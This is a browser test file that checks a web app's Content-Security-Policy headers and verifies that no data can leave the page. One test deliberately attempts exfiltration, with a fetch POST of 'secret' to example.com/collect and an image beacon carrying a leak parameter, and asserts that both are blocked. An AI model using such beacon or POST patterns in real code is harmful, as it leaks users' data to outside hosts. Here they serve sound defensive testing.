import { readFileSync } from 'node:fs';
import { afterEach, describe, expect, test } from 'vitest';
import { open, type Session } from './browser';
import { CSP_HEADER } from '../../csp.js';

let s: Session | undefined;
afterEach(async () => {
	await s?.close();
	s = undefined;
});

describe('no data leaves the browser', () => {
	test('pages carry the Content-Security-Policy and worker scripts get it as a header', async () => {
		s = await open('');
		const meta = await s.page.locator('meta[http-equiv="content-security-policy"]').getAttribute('content');
		expect(meta).toContain("default-src 'self'");
		expect(meta).toContain("connect-src 'self' blob: data:");
		expect(meta).toContain("script-src 'self' 'wasm-unsafe-eval'");
		const workerHeaders: Record<string, string>[] = [];
		s.page.on('response', (r) => {
			if (/worker.*\.js$/.test(new URL(r.url()).pathname)) workerHeaders.push(r.headers());
		});
		await s.page.reload();
		await s.page.getByTestId('demo-compas').click();
		await s.page.getByTestId('overview-table').waitFor({ timeout: 60_000 });
		expect(workerHeaders.length).toBeGreaterThanOrEqual(2); // Plumb's engine worker and DuckDB's
		for (const h of workerHeaders) expect(h['content-security-policy']).toBe(CSP_HEADER);
		expect(s.faults).toEqual([]);
	});

	test('a request to another origin from the page is refused by the policy', async () => {
		s = await open('');
		const fromPage = await s.page.evaluate(async () => {
			try {
				await fetch('https://example.com/collect', { method: 'POST', body: 'secret' });
				return 'sent';
			} catch {
				return 'blocked';
			}
		});
		expect(fromPage).toBe('blocked');
		const img = await s.page.evaluate(
			() =>
				new Promise<string>((resolve) => {
					const i = new Image();
					i.onload = () => resolve('loaded');
					i.onerror = () => resolve('blocked');
					i.src = 'https://example.com/pixel.png?leak=1';
				})
		);
		expect(img).toBe('blocked');
		await s.page.waitForTimeout(300); // let the browser report the blocked request
		expect(s.faults.some((f) => f.includes('Content Security Policy'))).toBe(true);
		expect(s.faults.filter((f) => f.startsWith('request to another origin'))).toEqual([]);
	});

	test('the built app references no other origin in its code', () => {
		const html = readFileSync('build/index.html', 'utf8');
		expect(html).not.toMatch(/(src|href)=["']https?:\/\//);
	});
});
